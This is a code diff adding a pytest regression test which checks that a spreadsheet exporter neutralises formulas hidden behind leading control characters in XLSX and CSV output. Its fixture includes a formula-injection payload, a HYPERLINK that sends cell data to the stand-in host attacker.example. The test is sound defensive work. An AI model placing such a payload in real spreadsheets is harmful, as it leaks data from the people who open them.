@@ -89,6 +89,32 @@ def test_xlsx_export_writes_text_never_formulas_and_accession_as_text_format():
     assert sheet.column_dimensions["A"].number_format == "@"
 
 
+@pytest.mark.parametrize("start", ["\x01", "\x00", "\x1f", "\x0b\x0c"])
+def test_a_control_character_before_a_formula_does_not_make_it_live(start):
+    """Control characters are removed before the text is neutralised: the other way
+    round, "\x01=HYPERLINK(...)" was written as a live formula (issue 17, finding 4)."""
+    hostile = f'{start}=HYPERLINK("http://attacker.example/?"&A1,"Click")'
+    rows = [["A.1", hostile, f"{start}+1", f"{start}@SUM(1)"]]
+    headers = ["accession_number", "title_en", "medium", "rights"]
+    xlsx, text = io.BytesIO(), io.BytesIO()
+
+    write_xlsx(rows, xlsx, headers=headers, sheet_name="Errors", with_column_help=False)
+    write_csv(rows, text, headers=headers)
+
+    cells = openpyxl.load_workbook(io.BytesIO(xlsx.getvalue()))["Errors"][2][1:]
+    assert [(cell.data_type, cell.value[:2]) for cell in cells] == [("s", "'=")] + [
+        ("s", "'+"),
+        ("s", "'@"),
+    ]
+    written = text.getvalue().decode("utf-8-sig").splitlines()[1]
+    assert ",\"'=HYPERLINK(" in written
+    assert ",'+1," in written
+    assert start not in written
+    # And both read back as what the cell shows, without the apostrophe.
+    table = read(xlsx.getvalue(), filename="errors.xlsx")
+    assert table.rows[0].values["title_en"] == hostile.lstrip(start)
+
+
 def test_xlsx_template_has_headers_and_a_columns_help_sheet():
     buffer = io.BytesIO()
     write_template(buffer, format="xlsx")
